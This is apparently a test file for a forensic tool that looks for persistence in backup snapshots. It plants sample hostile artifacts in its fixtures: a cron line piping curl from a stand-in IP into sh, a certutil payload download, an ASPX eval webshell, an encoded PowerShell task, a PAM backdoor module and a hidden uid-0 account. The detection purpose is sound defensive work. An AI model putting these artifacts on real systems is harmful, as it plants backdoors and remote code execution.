"""What starts by itself, in fourteen places: named where it is new, and silent on a clean tree."""

from __future__ import annotations

import pytest

from firstbell.base.progress import Silent
from firstbell.drill.intrusion.eventlogs import Event
from firstbell.drill.intrusion.hives import make_tree, write_hive
from firstbell.investigate.hunts.autostart import Start
from firstbell.investigate.hunts.hunt import Hunt, HuntOptions
from firstbell.investigate.hunts.match.signs import list_rules, load_signs
from firstbell.investigate.hunts.restored import RestoredTree
from tests.investigate.hunts.made import SECURITY, MadeHost, security

CONFIG = "/C/Windows/System32/config"
RUN = r"Microsoft\Windows\CurrentVersion\Run"
SERVICES = r"ControlSet001\Services"
EVIL = r"C:\Users\Public\u.exe"
TASK = (
    '<?xml version="1.0" encoding="UTF-16"?><Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">'
    "<Principals><Principal><UserId>S-1-5-18</UserId></Principal></Principals>"
    "<Actions><Exec><Command>{}</Command><Arguments>{}</Arguments></Exec></Actions></Task>"
)
OBJECTS = (
    b"\x00junk\x00CommandLineEventConsumer\x00"
    + b"\x00" * 8
    + b"powershell -enc AAAA\x00Upd\x00"
    + bytes(2100)
)
JOBS = (
    bytes(64) + "https://203.0.113.5/x".encode("utf-16-le") + bytes(4) + EVIL.encode("utf-16-le") + bytes(64)
)
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI kali@kali\n"

BASE: dict[str, bytes] = {
    f"{CONFIG}/SOFTWARE": write_hive(make_tree({RUN: {"SecurityHealth": r"C:\Windows\system32\SecurityHealthSystray.exe"}})),
    f"{CONFIG}/SYSTEM": write_hive(
        make_tree(
            {
                "Select": {"Current": 1},
                rf"{SERVICES}\Spooler": {"ImagePath": r"C:\Windows\System32\spoolsv.exe", "Start": 2},
                r"ControlSet001\Control\Terminal Server": {"fDenyTSConnections": 1},
            }
        )
    ),
    "/C/Windows/System32/Tasks/District/Nightly": TASK.format(r"C:\Scripts\n.cmd", "").encode("utf-16"),
    "/C/Windows/System32/wbem/Repository/OBJECTS.DATA": bytes(4096),
    "/C/ProgramData/Microsoft/Network/Downloader/qmgr.db": bytes(4096),
    "/C/Windows/SYSVOL/sysvol/district.example/scripts/map.bat": b"net use H: \\\\fs01\\home$\r\n",
    "/C/inetpub/wwwroot/default.aspx": b"<html>Welcome</html>",
    "/etc/crontab": b"SHELL=/bin/sh\n17 * * * * root run-parts /etc/cron.hourly\n",
    "/etc/systemd/system/backup.service": b"[Service]\nExecStart=/usr/bin/restic backup /\n",
    "/root/.ssh/authorized_keys": b"ssh-ed25519 AAAA admin@district\n",
    "/etc/ld.so.preload": b"",
    "/etc/pam.d/sshd": b"auth required pam_unix.so\n",
    "/etc/passwd": b"root:x:0:0::/root:/bin/bash\ndaemon:x:1:1::/:/usr/sbin/nologin\n",
}  # fmt: skip

PLANTED = {
    "run key": {f"{CONFIG}/SOFTWARE": write_hive(make_tree({RUN: {"Upd": EVIL}}))},
    "service": {
        f"{CONFIG}/SYSTEM": write_hive(
            make_tree({"Select": {"Current": 1}, rf"{SERVICES}\Upd": {"ImagePath": EVIL, "Start": 2}})
        )
    },
    "task": {"/C/Windows/System32/Tasks/Upd": TASK.format("powershell.exe", "-enc AAAA").encode("utf-16")},
    "wmi": {"/C/Windows/System32/wbem/Repository/OBJECTS.DATA": OBJECTS},
    "bits": {"/C/ProgramData/Microsoft/Network/Downloader/qmgr.db": JOBS},
    "cron": {"/etc/crontab": b"* * * * * root curl http://203.0.113.5/x | sh\n"},
    "systemd": {"/etc/systemd/system/upd.service": b"[Service]\nExecStart=/bin/bash -c '/tmp/.x/u'\n"},
    "authorized_keys": {"/root/.ssh/authorized_keys": b"ssh-ed25519 AAAA admin@district\n" + KEY.encode()},
    "ld.so.preload": {"/etc/ld.so.preload": b"/usr/lib/libx.so\n"},
    "pam": {"/etc/pam.d/sshd": b"auth required pam_unix.so\nauth optional pam_backdoor.so\n"},
    "sysvol": {"/C/Windows/SYSVOL/sysvol/district.example/scripts/map.bat": b"\\\\dc01\\x$\\u.exe & certutil -urlcache -f http://203.0.113.5/u.exe u.exe\r\n"},
    "webshell": {"/C/inetpub/wwwroot/aspnet_client/e.aspx": b'<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>'},
    "account": {"/etc/passwd": BASE["/etc/passwd"] + b"sys0:x:0:0::/root:/bin/bash\n"},
    "rdp": {
        f"{CONFIG}/SYSTEM": write_hive(
            make_tree({"Select": {"Current": 1}, r"ControlSet001\Control\Terminal Server": {"fDenyTSConnections": 0}})
        )
    },
}  # fmt: skip


def list_starts(made: MadeHost, snapshot: str) -> list[Start]:
    """What a restore of the snapshot would start again."""
    signs = load_signs()
    hunt = Hunt(made.repository, made.store, list_rules(signs), signs=signs, digest=b"x")
    tree_id = bytes.fromhex(made.repository.find_snapshot(snapshot).tree)
    tree = RestoredTree.load(made.host, made.repository.load_tree, tree_id)
    return list(hunt.list_starts([tree], HuntOptions(workers=1), Silent())[1][0].starts)


def test_there_are_fourteen_places() -> None:
    assert len(PLANTED) == 14


@pytest.mark.long
@pytest.mark.parametrize("place", PLANTED)
def test_what_was_planted_is_named_before_a_restore(place: str) -> None:
    made = MadeHost()
    made.add_night(BASE, paths=["/"])
    second = made.add_night({**BASE, **PLANTED[place]}, paths=["/"])
    starts = list_starts(made, second)
    new = [(one.place, one.strength) for one in starts if one.is_new]
    assert new
    assert {one for one, _ in new} == {place}
    assert {one.strength for one in starts if not one.is_new} <= {"known"}


def test_clean_trees_have_nothing_new_and_raise_no_trace() -> None:
    made = MadeHost()
    last = [made.add_night({**BASE, "/etc/motd": str(night).encode()}, paths=["/"]) for night in range(10)][
        -1
    ]
    assert [one for one in list_starts(made, last) if one.strength != "known"] == []
    assert made.hunt().traces == []


ORDINARY: dict[str, bytes] = {
    "/C/Windows/System32/Tasks/District/Roster": TASK.format(
        "powershell.exe", r"-NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -File C:\Scripts\sync.ps1"
    ).encode("utf-16"),
    "/etc/cron.d/tidy": b"0 3 * * * root find /tmp/sessions -mtime +2 -delete > /tmp/tidy.log 2>&1\n",
    "/var/www/moodle/upload.php": b"<?php move_uploaded_file($_FILES['f']['tmp_name'], $to); exec($cmd, $out);",
    "/C/Windows/SYSVOL/sysvol/district.example/scripts/new.bat": b"net use P: \\\\print01\\lab\r\n",
    f"{CONFIG}/SAM": write_hive(make_tree({r"SAM\Domains\Account\Users\Names\helpdesk": {}})),
    f"{CONFIG}/SOFTWARE": write_hive(
        make_tree({RUN: {"AnyDesk": r'"C:\Program Files (x86)\AnyDesk\AnyDesk.exe" --control'}})
    ),
}


def test_what_staff_have_start_by_itself_is_new_and_not_hostile() -> None:
    made = MadeHost()
    made.add_night(BASE, paths=["/"])
    last = made.add_night({**BASE, **ORDINARY}, paths=["/"])
    starts = list_starts(made, last)
    assert {one.strength for one in starts} == {"pointing", "known"}
    assert {"task", "cron", "webshell", "sysvol", "account", "run key"} <= {
        one.place for one in starts if one.is_new
    }


def test_an_account_that_came_and_was_made_an_administrator_stands_in_the_directory() -> None:
    made = MadeHost()
    base: dict[str, bytes | list[Event]] = {
        "/C/Windows/NTDS/ntds.dit": b"pages",
        SECURITY: [security(1)],
    }
    made.add_night(base)
    sid, domain = "S-1-5-21-1-2-3-1604", "S-1-5-21-1-2-3"
    events = [
        security(2, 4720, TargetUserName="itadm", TargetSid=sid, SubjectUserName="bob"),
        security(3, 4728, MemberName="-", MemberSid=sid, TargetUserName="Domain Admins", TargetSid=f"{domain}-512", SubjectUserName="bob"),
        security(4, 4720, TargetUserName="newteacher", TargetSid=f"{domain}-1605", SubjectUserName="helpdesk"),
    ]  # fmt: skip
    last = made.add_night({**base, SECURITY: [security(1), *events]})
    (start,) = [one for one in list_starts(made, last) if one.strength != "known"]
    assert (start.place, start.key, start.strength, start.is_alone) == ("account", "itadm", "shown", False)
    assert "Domain Admins" in start.command
    assert start.path == b"/C/Windows/NTDS/ntds.dit"


def test_a_hidden_local_account_stops_its_hive() -> None:
    made = MadeHost()
    names: dict[str, dict[str, str]] = {r"SAM\Domains\Account\Users\Names\helpdesk": {}}
    made.add_night({f"{CONFIG}/SAM": write_hive(make_tree(names))})
    names[r"SAM\Domains\Account\Users\Names\svc$"] = {}
    last = made.add_night({f"{CONFIG}/SAM": write_hive(make_tree(names))})
    (start,) = [one for one in list_starts(made, last) if one.strength != "known"]
    assert (start.place, start.key, start.strength, start.is_alone) == ("account", "svc$", "shown", False)


def test_a_hostile_start_is_a_trace_and_one_of_an_installed_program_is_none() -> None:
    made = MadeHost()
    made.add_night(BASE, paths=["/"])
    hive = write_hive(make_tree({RUN: {"Zoom": r"C:\Program Files\Zoom\bin\Zoom.exe", "Upd": EVIL}}))
    made.add_night({**BASE, f"{CONFIG}/SOFTWARE": hive}, paths=["/"])
    (trace,) = made.hunt().traces
    assert (trace.sign, trace.strength) == ("stay.run", "shown")
    assert EVIL in trace.message
